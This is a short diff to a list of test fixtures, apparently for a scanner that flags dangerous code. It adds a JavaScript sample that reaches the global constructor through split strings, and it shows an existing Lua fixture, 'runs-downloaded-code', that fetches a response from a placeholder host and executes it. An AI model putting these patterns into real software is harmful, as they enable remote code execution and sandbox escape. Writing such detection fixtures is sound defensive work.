@@ -5,6 +5,7 @@ import { serverFixtures } from './server-fixtures.ts'
 export const fixtures: Fixture[] = [
   ...pageFixtures,
   ...serverFixtures,
+  js('global-by-text', `^const make = this['c' + 'onstructor']`, `const make = this['on' + 'Constructed']`),
   lua(
     'runs-downloaded-code',
     `PerformHttpRequest('https://a.example', function(status, body)\n^ load(body)()\nend)`,
